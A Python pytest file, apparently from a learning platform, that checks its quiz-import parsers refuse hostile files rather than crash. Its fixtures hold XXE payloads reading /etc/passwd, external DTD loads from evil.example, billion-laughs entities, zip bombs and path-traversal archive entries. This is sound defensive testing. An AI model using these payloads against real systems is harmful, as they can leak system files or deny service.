"""Files that want to break the reader get a refusal, never a crash, and soon."""

import io
import random
import time
import tracemalloc
import zipfile

import pytest
import xlsxwriter

from assessments.bank.formats import FORMATS
from assessments.bank.formats import records as limits
from assessments.bank.formats.records import RefusedQuestion, UnreadableFile
from tests.assessments.bank.reading import sample

pytestmark = pytest.mark.usefixtures("in_english")

ALL = list(FORMATS)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))


def outcome(name, content):
    """The refusal of the file, or the number of questions and refusals in it."""
    try:
        return len(list(FORMATS[name].read(content, language="zh")))
    except UnreadableFile as problem:
        return str(problem.reason)


def archive(members):
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return memory.getvalue()


@pytest.mark.parametrize("name", ["moodlexml", "qti"])
@pytest.mark.parametrize(
    "text",
    [
        f"<!DOCTYPE quiz [{LAUGHS}]><quiz>&l9;</quiz>",
        '<!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///etc/passwd">]><quiz><question type="essay"><name><text>&x;</text></name></question></quiz>',
        '<!DOCTYPE quiz SYSTEM "http://evil.example/x.dtd"><quiz/>',
        '<!DOCTYPE quiz [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><quiz/>',
    ],
)
def test_entities_and_document_types_are_refused(name, text):
    assert "entities" in outcome(name, text.encode())


def test_entities_inside_a_package_are_refused():
    found = list(FORMATS["qti"].read(archive({"a.xml": f"<!DOCTYPE assessmentItem [{LAUGHS}]><assessmentItem>&l9;</assessmentItem>"}), language="zh"))  # fmt: skip

    assert [type(item) for item in found] == [RefusedQuestion]


@pytest.mark.parametrize("name", ["moodlexml", "qti"])
def test_deep_and_wide_xml_is_refused(name):
    assert "too deeply" in outcome(name, b"<a>" * 100_000)
    assert "too many parts" in outcome(name, b"<quiz>" + b"<a/>" * 600_000 + b"</quiz>")


@pytest.mark.parametrize("name", ALL)
@pytest.mark.parametrize("content", [b"", b"\x00" * 100, b"   \n"], ids=["nothing", "zeros", "blanks"])
def test_empty_file_is_refused(name, content):
    assert outcome(name, content) in ("The file is empty.", "The text can't be read: save the file as UTF-8.")


@pytest.mark.parametrize("name", ["gift", "aiken", "xlsx"])
def test_50_mb_of_text_is_refused(name):
    assert "larger than 10 MB" in outcome(name, b"a {T}\n\n" * 7_500_000)


@pytest.mark.parametrize("name", ["moodlexml", "qti"])
def test_100_mb_of_xml_is_refused(name):
    assert "larger than 64 MB" in outcome(name, b"<quiz>" + b" " * 100_000_000)


@pytest.mark.parametrize("name", ALL)
@pytest.mark.parametrize("seed", range(6))
def test_noise_is_refused_or_read(name, seed):
    noise = random.Random(seed)
    starts = [b"", b"<quiz>", b"PK\x03\x04", b"\xff\xfe", b"::a::{", b"\xd0\xcf\x11\xe0"]

    outcome(name, starts[seed] + noise.randbytes(20_000))  # doesn't raise


@pytest.mark.parametrize("name", ["desk.gift", "desk.aiken.txt", "desk.moodle.xml", "choice.qti21.xml", "bank.csv"])
@pytest.mark.parametrize("seed", range(4))
def test_damaged_sample_is_refused_or_read(name, seed):
    chance = random.Random(seed)
    content = bytearray(sample(name))
    for _each in range(30):
        content[chance.randrange(len(content))] = chance.randrange(256)
    for each in ALL:
        outcome(each, bytes(content))  # doesn't raise


@pytest.mark.parametrize("name", ["gift", "aiken", "moodlexml"])
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "gb18030"])
def test_encodings_that_are_recognised(name, encoding):
    text = {
        "gift": "::q:: 等候客户之前先说什么？ { =原因 ~等一下 }",
        "aiken": "等候客户之前先说什么？\nA. 原因\nB. 等一下\nANSWER: A",
        "moodlexml": f'<?xml version="1.0" encoding="{encoding}"?>\n<quiz><question type="truefalse"><questiontext><text>等候客户之前先说什么？</text></questiontext></question></quiz>',
    }[name]

    (item,) = FORMATS[name].read(text.encode(encoding), language="zh")

    assert item.wording.stem_zh == "等候客户之前先说什么？"


@pytest.mark.parametrize("name", ["gift", "aiken", "moodlexml"])
def test_text_of_no_encoding_is_refused(name):
    assert "can't be read" in outcome(name, b"\x81\xff\xff{T}" * 9)
    assert "can't be read" in outcome(name, b"a\x00b {T}" + b"x" * 300)


def test_a_question_of_hundreds_of_thousands_of_options_is_refused():
    options = 200_000

    began = time.monotonic()
    assert outcome("gift", b"Q {=a" + b"~b" * options + b"}") == 1
    assert outcome("moodlexml", b'<quiz><question type="multichoice"><questiontext><text>Q</text></questiontext>' + b'<answer fraction="0"><text>b</text></answer>' * options + b"</question></quiz>") == 1  # fmt: skip
    assert outcome("aiken", b"Q\n" + b"A. a\n" * options + b"ANSWER: A") == 1
    assert outcome("xlsx", b"type,question_zh,option_zh\nsingle,Q,a\n" + b",,b\n" * options) == 1
    assert time.monotonic() - began < 30


def test_rest_of_a_file_with_too_many_questions_is_one_refusal(monkeypatch):
    monkeypatch.setattr("assessments.bank.formats.records.MOST_QUESTIONS", 3)

    items = list(FORMATS["gift"].read(b"a {T}\n\n" * 9, language="zh"))

    assert [type(item) is RefusedQuestion for item in items] == [False, False, False, True]


def test_reading_many_questions_takes_no_square_of_time():
    began = time.monotonic()
    assert outcome("gift", b"Q {=a ~b}\n\n" * limits.MOST_QUESTIONS) == limits.MOST_QUESTIONS
    assert outcome("gift", b"Q { open\n\n" * 50_000) == limits.MOST_QUESTIONS + 1
    assert outcome("gift", b"Q {=a\n" + b"x\n\n" * 300_000 + b"}") > 1
    assert time.monotonic() - began < 60


def test_zip_bombs_are_refused():
    tracemalloc.start()
    bomb = archive({f"{n}.xml": b"<assessmentItem>" + b" " * 60_000_000 for n in range(4)})
    tracemalloc.reset_peak()

    assert len(bomb) < 1_000_000
    assert "unpacks to too much" in outcome("qti", bomb)
    assert tracemalloc.get_traced_memory()[1] < 400_000_000
    tracemalloc.stop()


def test_package_of_too_many_files_is_refused():
    assert "too many files" in outcome("qti", archive({str(n): b"" for n in range(6_000)}))


def test_package_that_climbs_out_of_itself_reads_nothing_outside():
    body = '<itemBody><p>Q <img src="../../../../etc/passwd" alt="x"/></p><extendedTextInteraction responseIdentifier="RESPONSE"/></itemBody>'
    content = archive({"../../a.xml": f"<assessmentItem>{body}</assessmentItem>"})

    (item,) = FORMATS["qti"].read(content, language="zh")

    assert isinstance(item, RefusedQuestion)


def test_spreadsheet_with_one_far_cell_is_refused():
    memory = io.BytesIO()
    book = xlsxwriter.Workbook(memory)
    sheet = book.add_worksheet()
    sheet.write_string(0, 0, "type")
    sheet.write_string(1_048_575, 16_383, "x")
    book.close()

    assert "too large" in outcome("xlsx", memory.getvalue())


def test_spreadsheet_bomb_is_refused(monkeypatch):
    monkeypatch.setattr("lms.kernel.tables.UNPACKED_LIMIT", 1_000_000)

    assert "too large" in outcome("xlsx", archive({"xl/workbook.xml": b" " * 5_000_000}))


def test_old_excel_and_broken_archives_are_refused():
    assert ".xls" in outcome("xlsx", b"\xd0\xcf\x11\xe0" + b"\x00" * 600)
    assert "can't be" in outcome("qti", b"PK\x03\x04" + b"x" * 100)
    assert "can't be" in outcome("xlsx", b"PK\x03\x04" + b"x" * 100)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"<questestinterop/>", "QTI 1.2"),
        (b"<qti-assessment-item/>", "QTI 3"),
        (b"<assessmentTest/>", "structure of a test"),
        (b"<html/>", "no QTI item"),
    ],
)
def test_other_xml_is_named(content, words):
    assert words in outcome("qti", content)
    assert "no Moodle question bank" in outcome("moodlexml", content)
